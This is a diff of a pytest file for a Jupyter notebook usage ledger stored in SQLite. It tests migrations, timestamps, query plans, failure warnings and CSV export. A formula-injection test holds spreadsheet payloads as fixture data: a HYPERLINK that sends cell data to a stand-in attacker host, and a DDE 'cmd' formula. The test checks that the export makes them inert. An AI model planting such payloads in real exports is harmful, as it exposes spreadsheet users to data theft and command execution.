@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import errno
 import json
 import os
 import random
@@ -25,7 +26,6 @@ import pytest
 
 from o4_magics.store.ledger import (
     CACHE_FILE,
-    SUMS_SQL,
     USAGE_FILE,
     Ledger,
     LedgerWarning,
@@ -116,7 +116,7 @@ def test_fresh_database_schema(ledger, home):
             for kind, name, sql in db.execute("SELECT type, name, sql FROM sqlite_master ORDER BY type, name")
         ]
         migrations = [name for (name,) in db.execute("SELECT name FROM _o4_migrations ORDER BY rowid")]
-        assert db.execute("PRAGMA user_version").fetchone() == (3,)
+        assert db.execute("PRAGMA user_version").fetchone() == (5,)
         assert db.execute("PRAGMA journal_mode").fetchone() == ("wal",)
     assert schema == [
         (
@@ -137,7 +137,12 @@ def test_fresh_database_schema(ledger, home):
             "CREATE INDEX usage_notebook_ts ON usage (notebook, ts, model, cost_usd, prompt_tokens, cached_tokens, "
             "completion_tokens, reasoning_tokens)",
         ),
-        ("index", "usage_ts", "CREATE INDEX usage_ts ON usage (ts)"),
+        (
+            "index",
+            "usage_ts_sums",
+            "CREATE INDEX usage_ts_sums ON usage (ts, cost_usd, prompt_tokens, cached_tokens, completion_tokens, "
+            "reasoning_tokens)",
+        ),
         (
             "table",
             "_o4_migrations",
@@ -146,10 +151,11 @@ def test_fresh_database_schema(ledger, home):
         (
             "table",
             "reservations",
-            normalized("""CREATE TABLE reservations ( id INTEGER PRIMARY KEY, notebook TEXT NOT NULL,
+            normalized("""CREATE TABLE reservations ( id INTEGER PRIMARY KEY AUTOINCREMENT, notebook TEXT NOT NULL,
             amount_usd REAL NOT NULL, created_ts TEXT NOT NULL, expires_ts TEXT NOT NULL,
             pid INTEGER NOT NULL DEFAULT 0 )"""),
         ),
+        ("table", "sqlite_sequence", "CREATE TABLE sqlite_sequence(name,seq)"),
         (
             "table",
             "usage",
@@ -163,7 +169,13 @@ def test_fresh_database_schema(ledger, home):
             error TEXT NOT NULL DEFAULT '', source TEXT NOT NULL DEFAULT '' )"""),
         ),
     ]
-    assert migrations == ["m001_usage", "m002_usage_indexes", "m003_reservations"]
+    assert migrations == [
+        "m001_usage",
+        "m002_usage_indexes",
+        "m003_reservations",
+        "m004_usage_ts_covering",
+        "m005_reservation_ids_never_reused",
+    ]
     with sqlite3.connect(home / CACHE_FILE) as db:
         tables = {name: normalized(sql) for name, sql in db.execute("SELECT name, sql FROM sqlite_master")}
     assert tables["cache"] == normalized("""CREATE TABLE cache ( key TEXT PRIMARY KEY, payload TEXT NOT NULL,
@@ -175,7 +187,7 @@ def test_reopening_applies_no_migration_twice(home):
         with Ledger() as ledger:
             ledger.record(make_row())
     with sqlite3.connect(home / USAGE_FILE) as db:
-        assert db.execute("SELECT COUNT(*) FROM _o4_migrations").fetchone() == (3,)
+        assert db.execute("SELECT COUNT(*) FROM _o4_migrations").fetchone() == (5,)
     assert Ledger().totals()["calls"] == 3  # totals survive a kernel restart
 
 
@@ -280,6 +292,54 @@ def test_since_filters_by_time_in_any_form(ledger):
     assert ledger.per_notebook(since=now - timedelta(days=2))[0]["calls"] == 2
 
 
+@pytest.fixture
+def local_zone(monkeypatch):
+    """Set the process's local time zone (POSIX TZ text, no zone database needed) for one test."""
+
+    def use(zone: str) -> None:
+        monkeypatch.setenv("TZ", zone)
+        time.tzset()
+
+    yield use
+    monkeypatch.undo()
+    time.tzset()
+
+
+FIRST, LAST = "0001-01-01T00:00:00.000000Z", "9999-12-31T23:59:59.999999Z"
+
+
+@pytest.mark.parametrize("zone", ["UTC0", "JST-9", "EST+5"])
+def test_times_from_year_1_to_9999_in_any_zone(local_zone, zone):
+    local_zone(zone)
+    years = ["0001-01-01", "0001-01-02", "0999-06-30T12:00", "2024-01-01", "9999-12-30", "9999-12-31T23:59"]
+    stamps = [to_timestamp(text) for text in years]
+    assert stamps == sorted(stamps) and all(len(stamp) == len(FIRST) for stamp in stamps)
+    assert stamps[0].startswith("0001-01-01T") and stamps[-1].startswith("9999-12-31T")
+    assert to_timestamp("0001-01-01T00:00+05:00") == FIRST  # before year 1 in UTC: the first moment
+    assert to_timestamp("9999-12-31T23:00-05:00") == LAST
+    assert to_timestamp("0001-01-01T00:00Z") == to_timestamp("0001-01-01T00:00:00+00:00") == FIRST
+    assert to_timestamp(datetime.min) >= FIRST and to_timestamp(datetime.max) <= LAST
+    assert to_timestamp(datetime(1, 1, 1, tzinfo=timezone.utc).date()).startswith("0001-01-01T")
+    assert (to_timestamp(-1e300), to_timestamp(1e300)) == (FIRST, LAST)
+    assert to_timestamp("2024-06-01T12:00+02:00") == "2024-06-01T10:00:00.000000Z"
+
+
+def test_since_year_1_counts_every_call(ledger):
+    ledger.record(make_row(ts="0001-01-01T00:00:00Z"))
+    ledger.record(make_row())
+    assert ledger.totals(since="0001-01-01")["calls"] == 2
+    assert ledger.totals(since="9999-12-31")["calls"] == 0
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [("2024-13-45", "month must be in 1..12"), ("2024-02-30", "day is out of range"), ("soon", "isoformat")],
+)
+def test_non_dates_say_why(text, reason):
+    with pytest.raises(ValueError, match=re.escape(reason)):
+        to_timestamp(text)
+
+
 def test_recent_is_newest_first_and_round_trips_every_field(ledger):
     for cell in range(15):
         ledger.record(make_row(cell=cell, notebook="a.ipynb" if cell % 2 else "b.ipynb"))
@@ -315,19 +375,59 @@ def test_long_error_text_is_truncated(ledger):
     assert len(ledger.recent(limit=1)[0].error) == 2000
 
 
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with open(path, newline="", encoding="utf-8-sig") as exported:
+        return list(csv.DictReader(exported))
+
+
 def test_export_csv(ledger, tmp_path):
     for cell in range(5):
         ledger.record(make_row(cell=cell, notebook="x.ipynb" if cell < 3 else "y.ipynb", error='a,b\n"c"'))
     out = tmp_path / "usage.csv"
     assert ledger.export_csv(out, notebook="x.ipynb") == 3
-    with open(out, newline="", encoding="utf-8") as f:
-        rows = list(csv.DictReader(f))
+    rows = read_csv(out)
     assert [r["cell"] for r in rows] == ["0", "1", "2"]
     assert rows[0]["notebook"] == "x.ipynb" and rows[0]["error"] == 'a,b\n"c"'
     assert rows[0]["cost_usd"] == "0.001496" and rows[0]["model"] == "openai/o4-mini"
     assert list(rows[0]) == [*(f for f in UsageRow.__dataclass_fields__ if f != "id"), "id"]
     assert ledger.export_csv(out) == 5
     assert ledger.export_csv(out, since=datetime.now(timezone.utc) + timedelta(hours=1)) == 0
+
+
+def test_export_csv_is_utf8_with_a_byte_order_mark_for_excel(ledger, tmp_path):
+    ledger.record(make_row(notebook="/home/jürgen/Übersicht.ipynb", thread="größe"))
+    out = tmp_path / "usage.csv"
+    ledger.export_csv(out)
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfnotebook,")  # Excel reads UTF-8 only with the BOM, else "Ã¼"
+    assert "Übersicht".encode() in raw
+    (row,) = read_csv(out)
+    assert row["notebook"] == "/home/jürgen/Übersicht.ipynb" and row["thread"] == "größe"
+
+
+FORMULAS = {
+    "thread": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "model": "@preset/my-o4",
+    "provider": "+cmd|' /C calc'!A0",
+    "generation_id": "-2+3",
+    "error": "\t=1+1",
+    "source": "\r=1+1",
+    "notebook": "\n=2*3",
+}
+
+
+def test_export_csv_neutralises_formulas_but_keeps_numbers(ledger, tmp_path):
+    ledger.record(make_row(**FORMULAS, cost_usd=-0.5, prompt_tokens=-3, latency_s=-1.25, cell=-1))
+    ledger.record(make_row(thread="a=b", model="openai/o4-mini", error="1 - 2", notebook="plain.ipynb"))
+    out = tmp_path / "usage.csv"
+    ledger.export_csv(out)
+    dangerous, plain = read_csv(out)
+    for name, text in FORMULAS.items():
+        assert dangerous[name] == "'" + text, name  # a spreadsheet shows the text, runs nothing
+    numbers = (dangerous["cost_usd"], dangerous["prompt_tokens"], dangerous["latency_s"], dangerous["cell"])
+    assert numbers == ("-0.5", "-3", "-1.25", "-1")  # still numbers: no quote in front
+    assert (plain["thread"], plain["model"], plain["error"]) == ("a=b", "openai/o4-mini", "1 - 2")
+    assert ledger.recent(limit=2)[1].thread == FORMULAS["thread"]  # the ledger itself keeps the text as is
 
 
 def test_threads_sharing_one_ledger_lose_nothing(ledger):
@@ -343,33 +443,134 @@ def test_threads_sharing_one_ledger_lose_nothing(ledger):
     assert ledger.totals()["calls"] == 200
 
 
-def test_panel_queries_use_covering_indexes_on_100k_rows(ledger):
+def traced_selects(ledger: Ledger, action) -> list[str]:
+    """Every SELECT the ledger's connection runs during ``action()``, with its parameters filled in."""
+    db = ledger._db(USAGE_FILE)
+    seen: list[str] = []
+    db.set_trace_callback(seen.append)
+    try:
+        action()
+    finally:
+        db.set_trace_callback(None)
+    return [sql for sql in dict.fromkeys(seen) if sql.lstrip().upper().startswith("SELECT")]
+
+
+def query_plan(ledger: Ledger, sql: str) -> list[str]:
+    return [step[-1] for step in ledger._db(USAGE_FILE).execute(f"EXPLAIN QUERY PLAN {sql}")]
+
+
+def plan_problems(sql: str, plan: list[str]) -> list[str]:
+    """What is wrong with how ``sql`` reads the usage table: a table scan, row lookups for a sum, a full sort."""
+    problems = []
+    reads = [step for step in plan if re.search(r"\b(SCAN|SEARCH) usage\b", step)]
+    if not reads or any("INDEX" not in step for step in reads):
+        problems.append("reads the table without an index")
+    aggregate = "LIMIT" not in sql
+    if aggregate and any("COVERING INDEX" not in step for step in reads):
+        problems.append("sums by looking up rows: no covering index")
+    by_notebook = re.search(r"WHERE notebook = '[^']*'( AND ts >=)?", sql)
+    if by_notebook:
+        wanted = "(notebook=? AND ts>?)" if by_notebook.group(1) else "(notebook=?)"
+        if not any(
+            step.startswith("SEARCH usage") and f"usage_notebook_ts {wanted}" in step for step in reads
+        ):
+            problems.append(f"does not search usage_notebook_ts {wanted}")
+    elif aggregate and "WHERE ts >=" in sql and "GROUP BY" not in sql:
+        if not any("usage_ts_sums (ts>?)" in step for step in reads):
+            problems.append("does not search usage_ts_sums (ts>?)")
+    if not aggregate and "USE TEMP B-TREE FOR ORDER BY" in plan:
+        problems.append("sorts every matching row to find the last few")
+    return problems
+
+
+def test_the_queries_the_panel_runs_use_covering_indexes(ledger):
+    """EXPLAIN QUERY PLAN of the SQL the ledger really executes for the panel and the budget, in every scope."""
     from o4_magics.store.ledger import _insert
+    from o4_magics.widgets.usage_tables import gather
 
     rnd = random.Random(1)
     start = datetime(2025, 1, 1, tzinfo=timezone.utc)
     rows = [
-        make_row(
-            notebook=f"nb{rnd.randrange(20)}",
-            model=rnd.choice("abc"),
-            ts=to_timestamp(start + timedelta(seconds=i)),
-        )
-        for i in range(100_000)
+        make_row(notebook=f"nb{rnd.randrange(20)}", model=rnd.choice("abc"), ts=start + timedelta(seconds=i))
+        for i in range(20_000)
     ]
     _insert(ledger._db(USAGE_FILE), rows)
-    db = ledger._db(USAGE_FILE)
-    panel_queries = (  # what totals, per_model and per_notebook run
-        f"SELECT COUNT(*), {SUMS_SQL} FROM usage WHERE notebook = 'nb1'",
-        f"SELECT COUNT(*), {SUMS_SQL} FROM usage",
-        f"SELECT model, COUNT(*), {SUMS_SQL} FROM usage GROUP BY model",
-        "SELECT notebook, COUNT(*), TOTAL(cost_usd), MAX(ts) FROM usage GROUP BY notebook",
-    )
-    for sql in panel_queries:
-        plan = " ".join(step[-1] for step in db.execute(f"EXPLAIN QUERY PLAN {sql}"))
-        assert "COVERING INDEX" in plan, (sql, plan)
-
+    cutoff = to_timestamp(start + timedelta(hours=3))
+    kinds = {  # what each of the ledger's reads looks like
+        "per_model": "GROUP BY model",
+        "per_notebook": "GROUP BY notebook",
+        "recent": "LIMIT",
+        "totals": "SELECT COUNT(*)",
+    }
+    seen_kinds, problems = set(), {}
+    for all_notebooks in (False, True):
+        for since in (None, cutoff):
+            scope = ("all" if all_notebooks else "nb1") + (" since" if since else "")
+            selects = traced_selects(
+                ledger, lambda a=all_notebooks, s=since: gather(ledger, "nb1", a, s, 1.0)
+            )
+            found = {kind for kind, mark in kinds.items() for sql in selects if mark in sql}
+            assert found == set(kinds) - ({"per_notebook"} if not all_notebooks else set()), (scope, selects)
+            seen_kinds |= {(scope, kind) for kind in found}
+            for sql in selects:
+                plan = query_plan(ledger, sql)
+                if plan_problems(sql, plan):
+                    problems[(scope, sql)] = (plan_problems(sql, plan), plan)
+    budget = traced_selects(ledger, lambda: ledger.reserve("nb1", 0.01, 1e9, 60))
+    assert budget and all("FROM usage WHERE notebook" in sql or "reservations" in sql for sql in budget)
+    for sql in budget:
+        if "FROM usage" in sql and plan_problems(sql, query_plan(ledger, sql)):
+            problems[("reserve", sql)] = (
+                plan_problems(sql, query_plan(ledger, sql)),
+                query_plan(ledger, sql),
+            )
+    assert len(seen_kinds) == 14
+    assert problems == {}
     # timings live in benchmarks/bench_ledger.py; here only the plans, which do not depend on the machine
-    assert ledger.totals()["calls"] == 100_000
+    assert ledger.totals()["calls"] == 20_000
+
+
+def test_plan_checks_catch_a_table_scan():
+    """The checker itself: a scan, a non-covering sum and a full sort are each reported."""
+    assert plan_problems("SELECT COUNT(*) FROM usage", ["SCAN usage"]) == [
+        "reads the table without an index",
+        "sums by looking up rows: no covering index",
+    ]
+    assert plan_problems(
+        "SELECT COUNT(*) FROM usage WHERE notebook = 'a'",
+        ["SEARCH usage USING INDEX usage_notebook_ts (notebook=?)"],
+    ) == ["sums by looking up rows: no covering index"]
+    assert plan_problems(
+        "SELECT x FROM usage ORDER BY ts DESC LIMIT 10",
+        ["SCAN usage USING INDEX usage_ts_sums", "USE TEMP B-TREE FOR ORDER BY"],
+    ) == ["sorts every matching row to find the last few"]
+
+
+def test_upgrading_a_version_3_ledger_keeps_rows_and_holds(home):
+    from o4_magics.store.schema import USAGE_MIGRATIONS, migrate
+
+    home.mkdir()
+    with sqlite3.connect(home / USAGE_FILE, isolation_level=None) as db:
+        migrate(db, USAGE_MIGRATIONS[:3])
+        db.execute(
+            "INSERT INTO usage (ts, notebook, cost_usd) VALUES ('2025-01-01T00:00:00.000000Z', 'a', 0.5)"
+        )
+        db.execute(
+            "INSERT INTO reservations (notebook, amount_usd, created_ts, expires_ts) VALUES (?, ?, ?, ?)",
+            ("a", 2.0, to_timestamp(), "9999-01-01T00:00:00.000000Z"),
+        )
+    with Ledger() as ledger:
+        assert ledger.totals("a")["cost_usd"] == 0.5
+        held = ledger.reserve("a", 1.0, 10.0, ttl_s=60)
+        assert held.granted and held.held_usd == 2.0 and held.id == 2
+    with sqlite3.connect(home / USAGE_FILE) as db:
+        indexes = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
+        assert {"usage_ts_sums", "reservations_notebook"} <= indexes and "usage_ts" not in indexes
+        assert db.execute("PRAGMA user_version").fetchone() == (5,)
+        assert (
+            "AUTOINCREMENT"
+            in db.execute("SELECT sql FROM sqlite_master WHERE name = 'reservations'").fetchone()[0]
+        )
 
 
 # -- cache ----------------------------------------------------------------------------------------------------
@@ -413,7 +614,11 @@ def test_cache_key_is_stable_and_sensitive():
     }
     assert cache_key(reordered) == key
     subprocess_key = subprocess.run(
-        [sys.executable, "-c", f"from o4_magics.store.ledger import cache_key; print(cache_key({REQUEST!r}))"],
+        [
+            sys.executable,
+            "-c",
+            f"from o4_magics.store.ledger import cache_key; print(cache_key({REQUEST!r}))",
+        ],
         capture_output=True,
         text=True,
         check=True,
@@ -459,7 +664,7 @@ def test_corrupt_ledger_keeps_rows_in_memory_and_writes_them_later(home):
     home.mkdir(mode=0o700)
     (home / USAGE_FILE).write_bytes(b"this is not a database, " * 200)
     ledger = Ledger()
-    with pytest.warns(LedgerWarning, match="usage ledger .* cannot be used"):
+    with pytest.warns(LedgerWarning, match="usage ledger .* cannot be used: the file is damaged"):
         assert ledger.record(make_row(cost_usd=0.5)) == -1
     assert len(ledger.pending) == 1
     with pytest.warns(LedgerWarning):
@@ -516,7 +721,8 @@ READ_ONLY_USER = """
         ids = [ledger.record(UsageRow(notebook="ro.ipynb", cost_usd=0.5)) for _ in range(2)]
         calls = ledger.totals()["calls"]
     warned = [w.category.__name__ for w in caught]
-    print(json.dumps({"ids": ids, "pending": len(ledger.pending), "calls": calls, "warnings": warned}))
+    texts = [str(w.message) for w in caught]
+    print(json.dumps({"ids": ids, "pending": len(ledger.pending), "calls": calls, "warnings": warned, "texts": texts}))
 """
 
 
@@ -552,6 +758,115 @@ def test_read_only_home_keeps_rows_in_memory(home, existing):
     assert result["ids"] == [-1, -1] and result["pending"] == 2
     assert result["calls"] == 2 + existing  # a readable file still counts, with the rows kept in memory
     assert "LedgerWarning" in result["warnings"]
+    first = result["texts"][0]
+    blocked = home / USAGE_FILE if existing else home
+    assert f"{blocked} is read-only for this user (permission denied)" in first, first
+    assert "chmod u+rw" in first and "O4_MAGICS_HOME" in first
+    assert "damaged" not in first and "move it aside" not in first.lower()
+
+
+# -- what a LedgerWarning says, by cause ------------------------------------------------------------------------
+
+
+def first_warning(action) -> str:
+    with pytest.warns(LedgerWarning) as caught:
+        action()
+    return str(caught[0].message)
+
+
+def fill_pages(ledger: Ledger) -> None:
+    """Record until SQLite reports the database full (a page cap stands in for a full disk: SQLITE_FULL)."""
+    ledger.record(make_row())
+    db = ledger._db(USAGE_FILE)
+    (pages,) = db.execute("PRAGMA page_count").fetchone()
+    db.execute(f"PRAGMA max_page_count = {pages + 2}")
+    for _ in range(200):
+        if ledger.record(make_row(error="x" * 2000)) == -1:
+            return
+
+
+def damage_pages(home: Path) -> None:
+    """Overwrite the usage table's root page: "database disk image is malformed"."""
+    with Ledger() as ledger:
+        for _ in range(300):
+            ledger.record(make_row(error="x" * 500))
+    with sqlite3.connect(home / USAGE_FILE) as db:
+        (root,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'usage'").fetchone()
+        (size,) = db.execute("PRAGMA page_size").fetchone()
+    with open(home / USAGE_FILE, "r+b") as file:
+        file.seek((root - 1) * size)
+        file.write(bytes([0x0D, 0xFF, 0xFF]) + os.urandom(size - 3))
+
+
+def test_warning_home_is_a_file(home):
+    home.write_text("not a directory")
+    text = first_warning(lambda: Ledger().record(make_row()))
+    assert f"cannot be used: {home} is a file, not a directory" in text
+    assert "Move that file away, or set O4_MAGICS_HOME to a directory." in text and "damaged" not in text
+
+
+def test_warning_ledger_is_a_directory(home):
+    (home / USAGE_FILE).mkdir(parents=True)
+    text = first_warning(lambda: Ledger().record(make_row()))
+    assert f"{home / USAGE_FILE} is a directory, not a database file" in text and "Move it aside" in text
+
+
+def test_warning_not_a_database(home):
+    home.mkdir()
+    (home / USAGE_FILE).write_bytes(b"this is not a database, " * 200)
+    text = first_warning(lambda: Ledger().record(make_row()))
+    assert "the file is damaged (file is not a database)" in text
+    assert "rename it to usage.sqlite.damaged" in text and "permission" not in text
+
+
+def test_warning_malformed_database(home):
+    damage_pages(home)
+    text = first_warning(lambda: Ledger().record(make_row()))
+    assert "the file is damaged (database disk image is malformed)" in text, text
+    assert "rename it to usage.sqlite.damaged" in text
+
+
+def test_warning_database_full(ledger, home):
+    text = first_warning(lambda: fill_pages(ledger))
+    assert f"the disk holding {home} is full" in text and "Free some space" in text, text
+    assert "damaged" not in text and ledger.pending  # the call waits in memory
+
+
+def test_warning_database_locked(home, monkeypatch):
+    import o4_magics.store.ledger as ledger_module
+
+    Ledger().record(make_row())
+    monkeypatch.setattr(ledger_module, "BUSY_TIMEOUT_S", 0.2)
+    other = sqlite3.connect(home / USAGE_FILE, isolation_level=None)
+    other.execute("BEGIN EXCLUSIVE")  # another kernel in the middle of a long write
+    try:
+        ledger = Ledger()
+        text = first_warning(lambda: ledger.record(make_row()))
+    finally:
+        other.execute("ROLLBACK")
+        other.close()
+    assert "another process kept it locked for over 0.2 s" in text and "tried again at the next call" in text
+    assert "damaged" not in text
+    assert ledger.record(make_row()) > 0 and ledger.totals()["calls"] == 3  # the waiting row is written too
+
+
+@pytest.mark.parametrize(
+    ("error", "words"),
+    [
+        (OSError(errno.EROFS, "Read-only file system"), "is on a read-only file system"),
+        (OSError(errno.ENOSPC, "No space left on device"), "is full"),
+        (PermissionError(errno.EACCES, "Permission denied"), "(permission denied)"),
+    ],
+    ids=["erofs", "enospc", "eacces"],
+)
+def test_warning_from_operating_system_errors(home, error, words):
+    """Causes a test cannot make for real without root mounts: the errno decides the words."""
+    from o4_magics.store.failures import explain_failure
+
+    home.mkdir()
+    failure = explain_failure(error, home / USAGE_FILE, home, 10.0)
+    assert words in failure.reason and "O4_MAGICS_HOME" in failure.remedy
+    assert "damaged" not in failure.reason + failure.remedy
 
 
 WRITER = """
@@ -664,4 +979,5 @@ def test_ledger_reads_no_key_from_the_environment(tmp_path, monkeypatch):
     assert set(re.findall(r"(?:environ\.get\(|environ\[|getenv\()\s*[\"']([^\"']+)", source)) == {
         "O4_MAGICS_HOME",
         "JPY_SESSION_NAME",
+        "JUPYTER_SERVER_ROOT",
     }
